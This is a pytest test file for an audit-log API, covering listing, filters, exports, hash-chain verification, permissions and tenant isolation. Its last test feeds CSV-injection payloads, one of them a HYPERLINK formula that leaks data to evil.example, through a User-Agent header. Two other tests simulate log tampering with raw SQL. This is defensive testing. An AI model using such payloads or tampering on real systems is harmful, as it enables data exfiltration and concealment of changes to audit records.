"""The audit log over the API: `GET /api/v1/audit` (filters, pages), `GET /audit/export`
(the streamed file and its own audit entry) and `POST /audit/verify` (the report, and the
record of who verified) — each refused without its code, and blind to the other org."""

from __future__ import annotations

import csv
import io
import json

import pytest

from orgs.accounts.models import AuditEntry
from orgs.services import audit, audit_export
from orgs.tests.audit_support import tampering
from siphera.tenancy import in_tenant
from tests.fixtures import create_org, make_user, unique


@pytest.fixture
def org():
    return create_org(unique("aa"), f"{unique('h')}.test")


@pytest.fixture
def people(org, new_session):
    """An owner and a compliance officer (audit.view + audit.export) with devices; a
    security desk (audit.view only) and a member (neither); and two users whose creation
    and role change give the log a known shape."""
    owner = new_session(org, role="owner")
    officer = new_session(org, role="compliance_officer")
    desk = new_session(org, role="security_desk")
    member = new_session(org, role="member")
    alice = make_user(org)
    bob = make_user(org)
    changed = owner.api.put(f"/api/v1/users/{bob.pk}/role", json={"role": "guest"})
    assert changed.status_code == 200, changed.text
    return dict(owner=owner, officer=officer, desk=desk, member=member, alice=alice, bob=bob)


def _stored(org, **filters) -> list[AuditEntry]:
    return in_tenant(org, lambda: list(AuditEntry.objects.filter(**filters).order_by("id")))


def _page(session, **params):
    response = session.api.get("/api/v1/audit", params=params)
    assert response.status_code == 200, response.text
    return response.json()


# --- listing --------------------------------------------------------------------------------


def test_the_log_lists_newest_first_with_every_field(org, people):
    body = _page(people["officer"])
    stored = _stored(org)
    assert [e["id"] for e in body["entries"]] == [e.id for e in reversed(stored)]
    newest = body["entries"][0]
    assert newest == json.loads(json.dumps(audit.entry_fields(stored[-1]), default=str))
    assert body["next_before"] is None


def test_pages_follow_each_other_by_entry_id_without_overlap(org, people):
    first = _page(people["officer"], limit=3)
    assert len(first["entries"]) == 3 and first["next_before"] == first["entries"][-1]["id"]
    second = _page(people["officer"], limit=3, before=first["next_before"])
    ids = [e["id"] for e in first["entries"] + second["entries"]]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == 6
    assert [e.id for e in reversed(_stored(org))][:6] == ids


def test_filters_by_actor_name_or_id_event_family_and_target(org, people):
    owner, bob = people["owner"], people["bob"]
    by_name = _page(people["officer"], actor=owner.user.username)["entries"]
    by_id = _page(people["officer"], actor=str(owner.user.pk))["entries"]
    assert by_name == by_id and by_name
    assert {e["actor_id"] for e in by_name} == {str(owner.user.pk)}

    created = _page(people["officer"], event="member.created")["entries"]
    assert {e["event"] for e in created} == {"member.created"} and len(created) == 6
    family = _page(people["officer"], event="member.*")["entries"]
    assert {e["event"] for e in family} >= {"member.created", "member.role_changed"}
    assert all(e["event"].startswith("member.") for e in family)
    two = people["officer"].api.get(
        "/api/v1/audit", params=[("event", "member.role_changed"), ("event", "org.created")]
    )
    assert {e["event"] for e in two.json()["entries"]} == {"member.role_changed", "org.created"}

    about_bob = _page(people["officer"], target_type="user", target_id=str(bob.pk))["entries"]
    assert [e["event"] for e in about_bob] == ["member.role_changed", "member.created"]
    [change] = [e for e in about_bob if e["event"] == "member.role_changed"]
    assert change["data"] == {"username": bob.username, "before": "member", "after": "guest"}
    assert change["ip"] == "127.0.0.1"


def test_filters_by_time_since_inclusive_and_until_exclusive(org, people):
    stored = _stored(org)
    pivot = stored[3]
    since = pivot.ts.isoformat()
    later = _page(people["officer"], since=since, limit=200)["entries"]
    assert [e["id"] for e in later] == [e.id for e in reversed(stored) if e.ts >= pivot.ts]
    assert later[-1]["id"] == pivot.id  # inclusive
    earlier = _page(people["officer"], until=since, limit=200)["entries"]
    assert [e["id"] for e in earlier] == [e.id for e in reversed(stored) if e.ts < pivot.ts]
    window = _page(people["officer"], since=stored[1].ts.isoformat(), until=since)["entries"]
    assert [e["id"] for e in window] == [e.id for e in reversed(stored[1:3])]


@pytest.mark.parametrize(
    ("params", "code"),
    [
        ({"event": "member.teleported"}, "unknown_event"),
        ({"actor": "nobody-by-this-name"}, "invalid_actor"),
        ({"since": "yesterday"}, "invalid_time"),
        ({"since": "2030-01-02", "until": "2030-01-01"}, "invalid_time"),
        ({"before": "x"}, "invalid_request"),
    ],
)
def test_bad_filters_are_a_400_with_a_code(org, people, params, code):
    response = people["officer"].api.get("/api/v1/audit", params=params)
    assert response.status_code == 400 and response.json()["error"]["code"] == code


def test_reading_needs_audit_view_and_a_token(org, people, api_for):
    refused = people["member"].api.get("/api/v1/audit")
    assert refused.status_code == 403 and refused.json()["permission"] == "audit.view"
    assert api_for(org).get("/api/v1/audit").status_code == 401
    assert people["desk"].api.get("/api/v1/audit").status_code == 200


def test_another_orgs_admin_sees_none_of_this_log(org, org_b, people, new_session):
    owner_b = new_session(org_b, role="owner")
    ids_here = {str(people["alice"].pk), str(people["bob"].pk), org.slug}
    seen = owner_b.api.get("/api/v1/audit", params={"limit": 200}).json()["entries"]
    assert not ids_here & {e["target_id"] for e in seen}
    by_target = owner_b.api.get(
        "/api/v1/audit", params={"target_type": "user", "target_id": str(people["bob"].pk)}
    )
    assert by_target.json()["entries"] == []
    # A user id of this org is not an actor there either.
    actor = owner_b.api.get("/api/v1/audit", params={"actor": people["owner"].user.username})
    assert actor.status_code == 400 and actor.json()["error"]["code"] == "invalid_actor"


# --- export ---------------------------------------------------------------------------------


def test_a_csv_export_holds_exactly_the_filtered_entries_and_is_audited(org, people):
    officer = people["officer"]
    response = officer.api.get(
        "/api/v1/audit/export", params={"format": "csv", "event": "member.created"}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == (
        f'attachment; filename="audit-{org.slug}.csv"'
    )
    rows = list(audit_export.read_export(io.StringIO(response.text), "csv"))
    assert [r["id"] for r in rows] == [e.id for e in _stored(org, event="member.created")]
    assert all(audit.link_hash(r["prev_hash"], r) == r["hash"] for r in rows)
    assert next(csv.reader(io.StringIO(response.text)))[:3] == ["id", "ts", "event"]
    [entry] = _stored(org, event="audit.exported")
    assert entry.actor_id == officer.user.pk
    assert entry.data == {"format": "csv", "filters": {"events": ["member.created"]}, "entries": 6}


def test_a_jsonl_export_of_the_whole_log_re_verifies_and_ends_with_its_own_entry(org, people):
    response = people["officer"].api.get("/api/v1/audit/export", params={"format": "jsonl"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    rows = list(audit_export.read_export(io.StringIO(response.text), "jsonl"))
    assert [r["id"] for r in rows] == [e.id for e in _stored(org)]
    assert rows[-1]["event"] == "audit.exported"
    assert audit.walk_chain(rows).ok


def test_exporting_needs_audit_export_and_a_known_format(org, people):
    refused = people["desk"].api.get("/api/v1/audit/export", params={"format": "csv"})
    assert refused.status_code == 403 and refused.json()["permission"] == "audit.export"
    bad = people["officer"].api.get("/api/v1/audit/export", params={"format": "xlsx"})
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "invalid_format"
    assert _stored(org, event="audit.exported") == []


# --- verify ---------------------------------------------------------------------------------


def test_verifying_reports_count_and_head_and_is_recorded(org, people):
    before = _stored(org)
    response = people["desk"].api.post("/api/v1/audit/verify")
    assert response.status_code == 200
    head = before[-1].hash
    assert response.json() == {
        "ok": True,
        "count": len(before),
        "head": head,
        "broken_id": None,
        "problem": None,
        "detail": f"OK: {len(before)} entries, chain intact, head {head}; no anchor yet",
        "anchor_id": None,
        "anchored_at": "",
    }
    [entry] = _stored(org, event="audit.verified")
    assert entry.actor_id == people["desk"].user.pk
    assert entry.data == {
        "ok": True,
        "count": len(before),
        "head": head,
        "broken_id": None,
        "problem": None,
        "anchor_id": None,
    }


def test_verifying_a_tampered_log_names_the_altered_entry(org, people):
    victim = _stored(org, event="member.role_changed")[0]
    with tampering(org) as cursor:
        cursor.execute(
            'UPDATE accounts_auditentry SET data = data || \'{"after": "owner"}\'::jsonb'
            " WHERE id = %s",
            [victim.id],
        )
    body = people["owner"].api.post("/api/v1/audit/verify").json()
    assert body["ok"] is False and body["broken_id"] == victim.id
    assert body["problem"] == "altered"
    assert body["detail"].startswith(f"BROKEN at entry {victim.id} (altered)")
    # The failed verification is itself on record.
    [entry] = _stored(org, event="audit.verified")
    assert entry.data["ok"] is False and entry.data["broken_id"] == victim.id


def test_verifying_checks_the_latest_anchor_and_catches_a_log_cut_short(org, people):
    in_tenant(org, audit.do_anchor_head)
    anchored = _stored(org)[-1]
    body = people["desk"].api.post("/api/v1/audit/verify").json()
    assert body["ok"] is True and body["anchor_id"] == anchored.id and body["anchored_at"]
    # A superuser deletes the newest entries, the anchored one included.
    with tampering(org) as cursor:
        cursor.execute("DELETE FROM accounts_auditentry WHERE id >= %s", [anchored.id])
    body = people["desk"].api.post("/api/v1/audit/verify").json()
    assert (body["ok"], body["problem"], body["broken_id"]) == (False, "truncated", anchored.id)
    assert body["detail"].startswith(f"BROKEN at entry {anchored.id} (truncated)")
    assert _stored(org)[-1].data["problem"] == "truncated"


def test_verifying_needs_audit_view(org, people, api_for):
    refused = people["member"].api.post("/api/v1/audit/verify")
    assert refused.status_code == 403 and refused.json()["permission"] == "audit.view"
    assert api_for(org).post("/api/v1/audit/verify").status_code == 401
    assert _stored(org, event="audit.verified") == []


@pytest.mark.parametrize(
    "agent",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "'=quoted"],
)
def test_a_formula_in_a_stored_field_is_inert_in_the_csv_export_and_it_still_verifies(
    org, people, agent
):
    """OWASP CSV injection: a failed login stores its User-Agent; opened in a spreadsheet,
    that cell must be text, and the file must still verify as the log."""
    from tests.fixtures import Api, host_of

    anonymous = Api(people["officer"].api.server, host_of(org))
    failed = anonymous.post(
        "/api/v1/auth/login",
        json={"username": people["alice"].username, "password": "wrong"},
        headers={"User-Agent": agent},
    )
    assert failed.status_code == 401
    response = people["officer"].api.get("/api/v1/audit/export", params={"format": "csv"})
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + agent in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    assert not [c for c in cells if c.startswith("-")]  # (no field starts so by itself)
    rows = list(audit_export.read_export(io.StringIO(response.text), "csv"))
    assert agent in [r["user_agent"] for r in rows]  # read back as stored
    assert audit.walk_chain(rows).ok
